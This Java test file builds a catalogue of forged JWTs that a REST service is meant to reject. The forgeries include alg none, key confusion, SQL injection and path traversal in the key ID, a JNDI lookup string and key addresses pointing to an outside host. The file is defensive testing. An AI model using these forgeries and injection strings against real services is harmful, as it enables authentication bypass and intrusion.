package org.houvast.rest.internal;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.OctetSequenceKey;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jwt.JWTClaimsSet;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Date;
import java.util.List;
import org.houvast.rest.internal.caller.Forger;
import org.houvast.rest.internal.caller.Tokens;

/**
 * A token that proves nothing, or nothing any more.
 *
 * @param name what is wrong with it
 * @param token as it stands in the header
 */
record TokenAttack(String name, String token) {
    /** who sends them, and never is let in */
    static final String PERSON = "p1";

    /** a key of the issuer, beside {@link Tokens#KEY} */
    static final ECKey CURVE = curve("e1");

    private static final RSAKey STRANGER = Tokens.key("k1");
    private static final ECKey STRANGE_CURVE = curve("k1");
    private static final String GOOD_HEADER = header("RS256", "k1");
    private static final JWTClaimsSet GOOD = Tokens.claims(PERSON).build();
    private static final byte[] KNOWN_SECRET = "secretsecretsecretsecretsecretse".getBytes(StandardCharsets.US_ASCII);

    private static ECKey curve(String kid) {
        try {
            return new ECKeyGenerator(Curve.P_256).keyID(kid).generate();
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    static String header(String algorithm, String kid) {
        return "{\"alg\":\"" + algorithm + "\",\"kid\":\"" + kid + "\",\"typ\":\"JWT\"}";
    }

    /** all that need nothing to happen at the issuer; another address than its own stands in some */
    static List<TokenAttack> all(String elsewhere) {
        List<TokenAttack> all = new ArrayList<>();
        all.addAll(withoutSignature());
        all.addAll(withAnotherAlgorithm());
        all.addAll(withASecret());
        all.addAll(withAnotherKey());
        all.addAll(withTheirOwnKey(elsewhere));
        all.addAll(withClaimsOfAnother());
        all.addAll(withoutAPerson());
        all.addAll(outOfTime());
        return all;
    }

    private static TokenAttack of(String name, String token) {
        return new TokenAttack(name, token);
    }

    private static List<TokenAttack> withoutSignature() {
        String good = Tokens.of(PERSON);
        String[] parts = good.split("\\.", -1);
        char first = parts[2].charAt(0);
        return List.of(
                of("no token at all", "x"),
                of("three words", "a.b.c"),
                of("two parts", parts[0] + "." + parts[1]),
                of("signature cut off", parts[0] + "." + parts[1] + "."),
                of("half a signature", good.substring(0, good.length() - 100)),
                of(
                        "one letter of the signature changed",
                        parts[0] + "." + parts[1] + "." + (first == 'A' ? 'B' : 'A') + parts[2].substring(1)),
                of("a second token behind it", good + "," + good),
                of("alg none", Forger.unsigned("{\"alg\":\"none\"}", GOOD)),
                of("alg None", Forger.unsigned("{\"alg\":\"None\"}", GOOD)),
                of("alg nOnE", Forger.unsigned("{\"alg\":\"nOnE\",\"kid\":\"k1\"}", GOOD)),
                of(
                        "alg none with a good signature",
                        Forger.encode("{\"alg\":\"none\",\"kid\":\"k1\"}") + "." + parts[1] + "." + parts[2]),
                of("alg empty", Forger.unsigned(header("", "k1"), GOOD)),
                of("no alg", Forger.byRsa("{\"kid\":\"k1\"}", GOOD, Tokens.KEY)),
                of(
                        "alg twice, the second none",
                        Forger.unsigned("{\"alg\":\"RS256\",\"kid\":\"k1\",\"alg\":\"none\"}", GOOD)));
    }

    private static List<TokenAttack> withAnotherAlgorithm() {
        String zeros = Forger.encode(new byte[64]);
        return List.of(
                of("RS512, which is not configured", Forger.byRsa(header("RS512", "k1"), GOOD, Tokens.KEY)),
                of("PS256, which is not configured", Forger.byRsa(header("PS256", "k1"), GOOD, Tokens.KEY)),
                of("an algorithm nobody knows", Forger.byRsa(header("RS256 ", "k1"), GOOD, Tokens.KEY)),
                of(
                        "an elliptic key by the name of the RSA key",
                        Forger.byCurve(header("ES256", "k1"), GOOD, STRANGE_CURVE)),
                of("RSA by the name of the elliptic key", Forger.byRsa(header("ES256", "e1"), GOOD, STRANGER)),
                of("an elliptic signature of zeros", Forger.unsigned(header("ES256", "e1"), GOOD) + zeros),
                of(
                        "a critical header nobody knows",
                        Forger.byRsa(
                                "{\"alg\":\"RS256\",\"kid\":\"k1\",\"crit\":[\"trust\"],\"trust\":1}",
                                GOOD,
                                Tokens.KEY)),
                of(
                        "a payload that is not encoded",
                        Forger.byRsa(
                                "{\"alg\":\"RS256\",\"kid\":\"k1\",\"b64\":false,\"crit\":[\"b64\"]}",
                                GOOD,
                                Tokens.KEY)),
                of(
                        "a token of another kind",
                        Forger.byRsa("{\"alg\":\"RS256\",\"kid\":\"k1\",\"typ\":\"refresh+jwt\"}", GOOD, Tokens.KEY)),
                of("encrypted to the public key", Forger.encrypted(GOOD, Tokens.KEY)));
    }

    private static List<TokenAttack> withASecret() {
        byte[] publicKey = publicKey();
        String pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(publicKey)
                + "\n-----END PUBLIC KEY-----\n";
        String jwk = Tokens.KEY.toPublicJWK().toJSONString();
        String hs = header("HS256", "k1");
        return List.of(
                of("the public key as a secret", Forger.bySecret(hs, GOOD, publicKey)),
                of("the public key as text as a secret", Forger.bySecret(hs, GOOD, bytes(pem))),
                of("the published key as a secret", Forger.bySecret(hs, GOOD, bytes(jwk))),
                of(
                        "the modulus as a secret",
                        Forger.bySecret(hs, GOOD, Tokens.KEY.getModulus().decode())),
                of("RS256 with a secret", Forger.bySecret(GOOD_HEADER, GOOD, publicKey)),
                of(
                        "kid as a path to an empty secret",
                        Forger.bySecret(header("HS256", "../../../../../../dev/null"), GOOD, new byte[1])),
                of(
                        "kid as SQL that gives a known secret",
                        Forger.bySecret(
                                header("HS256", "k9' UNION SELECT 'secretsecretsecretsecretsecretse' --"),
                                GOOD,
                                KNOWN_SECRET)));
    }

    private static List<TokenAttack> withAnotherKey() {
        List<TokenAttack> all = new ArrayList<>();
        all.add(of("another key of the same name", Forger.byRsa(GOOD_HEADER, GOOD, STRANGER)));
        all.add(of("a key of no name", Forger.byRsa("{\"alg\":\"RS256\"}", GOOD, STRANGER)));
        for (String kid : List.of(
                "k9",
                "/etc/passwd",
                "../../etc/org.houvast.rest.issuer.cfg",
                "k1' OR '1'='1",
                "k1'; DROP TABLE privacy_audit_line; --",
                "https://elsewhere.example.org/keys",
                "${jndi:ldap://elsewhere.example.org/k1}",
                "k1\\u0000",
                "K1",
                "k".repeat(4_000))) {
            String shown = kid.length() > 60 ? kid.length() + " letters" : kid;
            all.add(of("kid " + shown, Forger.byRsa(header("RS256", kid), GOOD, STRANGER)));
        }
        all.add(of("kid a number", Forger.byRsa("{\"alg\":\"RS256\",\"kid\":1}", GOOD, STRANGER)));
        return all;
    }

    private static List<TokenAttack> withTheirOwnKey(String elsewhere) {
        String jwk = STRANGER.toPublicJWK().toJSONString();
        String start = "{\"alg\":\"RS256\",\"kid\":\"k1\",";
        OctetSequenceKey secret =
                new OctetSequenceKey.Builder(KNOWN_SECRET).keyID("k1").build();
        return List.of(
                of("a stranger's key in the header", Forger.byRsa(start + "\"jwk\":" + jwk + "}", GOOD, STRANGER)),
                of(
                        "a secret in the header",
                        Forger.bySecret(
                                "{\"alg\":\"HS256\",\"kid\":\"k1\",\"jwk\":" + secret.toJSONString() + "}",
                                GOOD,
                                KNOWN_SECRET)),
                of(
                        "a certificate in the header",
                        Forger.byRsa(
                                start + "\"x5c\":[\"" + Base64.getEncoder().encodeToString(publicKey()) + "\"]}",
                                GOOD,
                                STRANGER)),
                of(
                        "an address of keys in the header",
                        Forger.byRsa(start + "\"jku\":\"" + elsewhere + "\"}", GOOD, STRANGER)),
                of(
                        "an address of a certificate in the header",
                        Forger.byRsa(start + "\"x5u\":\"" + elsewhere + "\"}", GOOD, STRANGER)),
                of(
                        "an address of keys, in a token of the issuer",
                        Forger.byRsa(start + "\"jku\":\"" + elsewhere + "\"}", GOOD, Tokens.KEY)));
    }

    private static List<TokenAttack> withClaimsOfAnother() {
        String[] parts = Tokens.of("p2").split("\\.", -1);
        return List.of(
                of("claims of another person", parts[0] + "." + Forger.encode(GOOD.toString()) + "." + parts[2]),
                signed("another audience", Tokens.claims(PERSON).audience("elsewhere")),
                signed(
                        "an audience that begins like ours",
                        Tokens.claims(PERSON).audience("houvast2")),
                signed("no audience", Tokens.claims(PERSON).audience((String) null)),
                signed("another issuer", Tokens.claims(PERSON).issuer("https://elsewhere.example.org")),
                signed(
                        "the issuer with a slash behind it",
                        Tokens.claims(PERSON).issuer(Tokens.ISSUER + "/")),
                signed("no issuer", Tokens.claims(PERSON).issuer(null)),
                of("claims that are a list", Forger.byRsa(GOOD_HEADER, "[" + GOOD + "]", Tokens.KEY)),
                of("claims that are no JSON", Forger.byRsa(GOOD_HEADER, "nothing", Tokens.KEY)));
    }

    private static List<TokenAttack> withoutAPerson() {
        return List.of(
                signed("no subject", Tokens.claims(PERSON).subject(null)),
                signed("an empty subject", Tokens.claims("")),
                signed("a blank subject", Tokens.claims("  ")),
                signed("a subject of 201 letters", Tokens.claims("p".repeat(201))),
                signed("several subjects", Tokens.claims(PERSON).claim("sub", List.of(PERSON, "p2"))));
    }

    private static List<TokenAttack> outOfTime() {
        return List.of(
                signed("expired", Tokens.claims(PERSON).expirationTime(in(-61))),
                signed("expired years ago", Tokens.claims(PERSON).expirationTime(Date.from(Instant.EPOCH))),
                signed("without an end", Tokens.claims(PERSON).expirationTime(null)),
                of(
                        "an end that is a word",
                        Forger.byRsa(
                                GOOD_HEADER,
                                GOOD.toString().replaceFirst("\"exp\":\\d+", "\"exp\":\"never\""),
                                Tokens.KEY)),
                signed("not yet", Tokens.claims(PERSON).notBeforeTime(in(61))),
                signed("issued in the future", Tokens.claims(PERSON).issueTime(in(61))));
    }

    private static TokenAttack signed(String name, JWTClaimsSet.Builder claims) {
        return of(name, Tokens.signed(claims.build(), Tokens.KEY, header -> {}));
    }

    private static Date in(long seconds) {
        return Date.from(Tokens.NOW.plusSeconds(seconds));
    }

    private static byte[] publicKey() {
        try {
            return Tokens.KEY.toRSAPublicKey().getEncoded();
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
